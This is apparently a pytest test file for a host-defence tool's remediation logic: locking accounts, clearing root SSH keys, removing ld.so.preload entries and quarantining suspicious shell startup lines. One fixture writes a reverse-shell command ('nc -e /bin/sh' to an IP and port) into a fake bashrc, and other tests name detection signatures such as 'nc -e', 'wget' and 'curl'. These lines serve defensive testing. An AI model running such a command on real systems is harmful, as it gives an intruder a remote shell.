import io
import os
import stat

import pytest

from hostdefend import report
from hostdefend.models import Category, Finding, Severity
from hostdefend.remediation import RemediationPolicy

from tests.utils.fakes import RecordingRunner


def finding(cat, subject, **kw):
    return Finding(cat, subject, Severity.CRITICAL, **kw)


def test_lock_account_once_and_report(runner):
    policy = RemediationPolicy(auto_remediate=True, runner=runner)
    outcome = policy.handle(finding(Category.PRIVILEGED_USER, "eve"))

    assert runner.calls == [["usermod", "-L", "eve"]]
    assert outcome.ok is True
    out = io.StringIO()
    report.emit(outcome, out)
    assert "Locked account: eve" in out.getvalue()
    assert "OK" in out.getvalue()


def test_lock_failure_is_reported_without_retry():
    runner = RecordingRunner(ok=False)
    policy = RemediationPolicy(auto_remediate=True, runner=runner)
    outcome = policy.handle(finding(Category.PRIVILEGED_USER, "eve"))

    assert runner.calls == [["usermod", "-L", "eve"]]
    assert outcome.ok is False
    out = io.StringIO()
    report.emit(outcome, out)
    assert "FAILED" in out.getvalue()
    assert "Failed to lock eve" in out.getvalue()


@pytest.mark.parametrize("cat", list(Category))
def test_report_only_without_auto(cat, runner, tmp_path):
    target = tmp_path / "target"
    target.write_text("wget x\n")
    policy = RemediationPolicy(auto_remediate=False, runner=runner)
    outcome = policy.handle(finding(cat, str(target)))
    assert outcome.action is None
    assert runner.calls == []
    assert target.read_text() == "wget x\n"


@pytest.mark.parametrize("cat", [
    Category.NEW_PROCESS,
    Category.ESTABLISHED_CONNECTION,
    Category.FILE_MODIFIED,
    Category.CRON_ENTRY,
    Category.SYSTEMD_UNIT,
    Category.SUID_BINARY,
])
def test_no_escalation_for_report_only_categories(cat, runner):
    outcome = RemediationPolicy(True, runner=runner).handle(finding(cat, "x"))
    assert outcome.action is None
    assert runner.calls == []


def test_clear_root_authorized_keys(tmp_path, runner):
    keys = tmp_path / "authorized_keys"
    keys.write_text("ssh-rsa AAAA evil\n")
    outcome = RemediationPolicy(True, runner=runner).handle(finding(Category.ROOT_AUTHORIZED_KEY, str(keys)))
    assert outcome.ok
    assert keys.read_text() == ""
    assert stat.S_IMODE(os.stat(keys).st_mode) == 0o600
    assert (tmp_path / "authorized_keys.bak").read_text() == "ssh-rsa AAAA evil\n"


def test_remove_preload(tmp_path, runner):
    preload = tmp_path / "ld.so.preload"
    preload.write_text("/lib/evil.so\n")
    outcome = RemediationPolicy(True, runner=runner).handle(finding(Category.LD_PRELOAD, str(preload)))
    assert outcome.ok
    assert not preload.exists()


def test_remove_preload_failure(tmp_path, runner):
    outcome = RemediationPolicy(True, runner=runner).handle(
        finding(Category.LD_PRELOAD, str(tmp_path / "missing")))
    assert outcome.ok is False
    assert "Failed to remove" in outcome.message


def test_preload_content_printed_when_reporting(tmp_path):
    f = finding(Category.LD_PRELOAD, "/etc/ld.so.preload", detail="/lib/evil.so\n")
    out = io.StringIO()
    report.emit(RemediationPolicy(False).handle(f), out)
    assert "/lib/evil.so" in out.getvalue()


def test_quarantine_suspicious_content(tmp_path, runner):
    rc = tmp_path / "bashrc"
    rc.write_text("export A=1\nnc -e /bin/sh 1.2.3.4 4444\nexport B=2\n")
    f = finding(Category.SUSPICIOUS_CONTENT, str(rc), signatures=["nc -e"])
    outcome = RemediationPolicy(True, runner=runner).handle(f)
    assert outcome.ok
    assert rc.read_text() == "export A=1\nexport B=2\n"
    assert (tmp_path / "bashrc.defend_bak").exists()


def test_suspicious_content_report_names_signature():
    f = finding(Category.SUSPICIOUS_CONTENT, "/etc/profile", signatures=["wget", "curl"])
    line = report.format_finding(f)
    assert "'wget', 'curl'" in line
    assert "/etc/profile" in line


def test_clear_keys_keeps_earlier_backup(tmp_path, runner):
    keys = tmp_path / "authorized_keys"
    keys.write_text("ssh-rsa BBBB second\n")
    (tmp_path / "authorized_keys.bak").write_text("ssh-rsa AAAA first\n")

    outcome = RemediationPolicy(True, runner=runner).handle(finding(Category.ROOT_AUTHORIZED_KEY, str(keys)))

    assert outcome.ok
    assert (tmp_path / "authorized_keys.bak").read_text() == "ssh-rsa AAAA first\n"
    stamped = [p for p in tmp_path.iterdir() if p.name.startswith("authorized_keys.bak.")]
    assert len(stamped) == 1
    assert stamped[0].read_text() == "ssh-rsa BBBB second\n"
    assert str(stamped[0]) in outcome.message


def test_emit_defaults_to_current_stdout(capsys):
    f = finding(Category.LD_PRELOAD, "/etc/ld.so.preload", detail="/lib/evil.so\n")
    report.section("preload")
    report.emit(RemediationPolicy(False).handle(f))
    out = capsys.readouterr().out
    assert "Checking preload..." in out
    assert "/lib/evil.so" in out
